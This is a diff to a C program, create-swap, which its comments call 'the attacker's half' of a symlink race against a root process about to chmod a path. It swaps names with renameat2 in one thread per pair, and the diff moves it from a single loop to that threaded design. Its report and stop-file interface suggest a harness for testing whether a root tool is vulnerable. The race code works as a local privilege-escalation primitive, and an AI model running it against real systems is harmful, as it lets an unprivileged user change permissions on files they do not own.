@@ -1,9 +1,9 @@
 /* create-swap: the attacker's half of a "swap the name root is about to
  * chmod" race.  For each pair NAME/ALT (ALT a symlink to a file the
  * attacker wants chmodded), it exchanges the two names with
- * renameat2(RENAME_EXCHANGE) and exchanges them back, over and over, so
- * that for a moment NAME is the symlink while whatever root made or found
- * at NAME sits at ALT.
+ * renameat2(RENAME_EXCHANGE) and exchanges them back, over and over (one
+ * thread per pair, so that NAME is the symlink about half of the time),
+ * while whatever root made or found at NAME sits at ALT in between.
  *
  *   create-swap STOPFILE REPORT SECONDS MODE NAME ALT [MODE NAME ALT]...
  *
@@ -11,10 +11,10 @@
  * "remove" (NAME is what root creates: once in a while, when NAME is not
  * the symlink, it is removed, so that root creates it again at its next
  * update).  The loop ends when STOPFILE exists or after SECONDS, always
- * with every ALT back to the symlink.  After the first round it creates
+ * with every ALT back to the symlink.  Once the threads run it creates
  * REPORT.ready; at the end it writes REPORT:
  *
- *   rounds N
+ *   rounds N                              (all pairs together)
  *   pair NAME exchanged COUNT removed COUNT
  *
  * Exit status 0 when it ran, 2 on a usage error, 1 when REPORT could not be
@@ -23,6 +23,7 @@
 #define _GNU_SOURCE
 #include <errno.h>
 #include <fcntl.h>
+#include <pthread.h>
 #include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
@@ -35,8 +36,11 @@
 struct pair {
     const char *name, *alt;
     int remove;
-    unsigned long exchanged, removed;
+    unsigned long exchanged, removed, rounds;
 };
+
+static const char *stop_file;
+static time_t end_time;
 
 static int exchange(struct pair *p) {
     if (renameat2(AT_FDCWD, p->name, AT_FDCWD, p->alt, RENAME_EXCHANGE) != 0) return -1;
@@ -55,6 +59,23 @@ static void settle(struct pair *p) {
         if (exchange(p) != 0) usleep(1000);
 }
 
+/* One pair's loop, in its own thread. */
+static void *race(void *arg) {
+    struct pair *p = arg;
+    for (;;) {
+        /* Two exchanges: NAME is the symlink in between. */
+        if (exchange(p) == 0) exchange(p);
+        /* Now and then, let root create NAME again. */
+        if (p->remove && p->rounds % 512 == 0 && !is_symlink(p->name) && is_symlink(p->alt)) {
+            if (unlink(p->name) == 0 || (errno == EISDIR && rmdir(p->name) == 0)) p->removed++;
+        }
+        p->rounds++;
+        if (p->rounds % 256 == 0 && (access(stop_file, F_OK) == 0 || time(NULL) >= end_time)) break;
+    }
+    settle(p);
+    return NULL;
+}
+
 int main(int argc, char **argv) {
     if (argc < 7 || (argc - 4) % 3 != 0 || (argc - 4) / 3 > MAX_PAIRS) {
         fprintf(stderr, "usage: create-swap STOPFILE REPORT SECONDS MODE NAME ALT [MODE NAME ALT]...\n");
@@ -70,31 +91,27 @@ int main(int argc, char **argv) {
             fprintf(stderr, "create-swap: MODE is keep or remove, not %s\n", mode);
             return 2;
         }
-        pairs[i] = (struct pair){argv[5 + 3 * i], argv[6 + 3 * i], mode[0] == 'r', 0, 0};
+        pairs[i] = (struct pair){argv[5 + 3 * i], argv[6 + 3 * i], mode[0] == 'r', 0, 0, 0};
     }
 
-    time_t end = time(NULL) + seconds;
-    unsigned long rounds = 0;
-    char path[4200];
-    for (;;) {
-        for (int i = 0; i < n; i++) {
-            struct pair *p = &pairs[i];
-            /* Two exchanges: NAME is the symlink in between. */
-            if (exchange(p) == 0) exchange(p);
-            /* Now and then, let root create NAME again. */
-            if (p->remove && rounds % 512 == 0 && !is_symlink(p->name) && is_symlink(p->alt)) {
-                if (unlink(p->name) == 0 || (errno == EISDIR && rmdir(p->name) == 0)) p->removed++;
-            }
+    stop_file = stop;
+    end_time = time(NULL) + seconds;
+    pthread_t threads[MAX_PAIRS];
+    for (int i = 0; i < n; i++) {
+        if (pthread_create(&threads[i], NULL, race, &pairs[i]) != 0) {
+            fprintf(stderr, "create-swap: cannot start a thread\n");
+            return 1;
         }
-        rounds++;
-        if (rounds == 1) {
-            snprintf(path, sizeof path, "%s.ready", report);
-            int r = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
-            if (r >= 0) close(r);
-        }
-        if (rounds % 256 == 0 && (access(stop, F_OK) == 0 || time(NULL) >= end)) break;
     }
-    for (int i = 0; i < n; i++) settle(&pairs[i]);
+    char path[4200];
+    snprintf(path, sizeof path, "%s.ready", report);
+    int r = open(path, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
+    if (r >= 0) close(r);
+    unsigned long rounds = 0;
+    for (int i = 0; i < n; i++) {
+        pthread_join(threads[i], NULL);
+        rounds += pairs[i].rounds;
+    }
 
     snprintf(path, sizeof path, "%s.tmp", report);
     FILE *out = fopen(path, "w");
